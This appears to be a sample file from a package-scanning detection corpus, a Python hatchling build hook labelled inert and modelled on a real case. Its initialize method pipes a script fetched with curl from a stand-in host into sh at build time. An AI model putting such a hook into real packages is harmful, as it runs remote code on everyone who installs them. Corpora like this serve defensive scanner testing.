# pkgguard corpus 613 (install-hook), modelled on [bertus]; inert, never run.
import subprocess

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        subprocess.run("curl -fsSL https://build-assets.example/prep.sh | sh", shell=True, check=False)
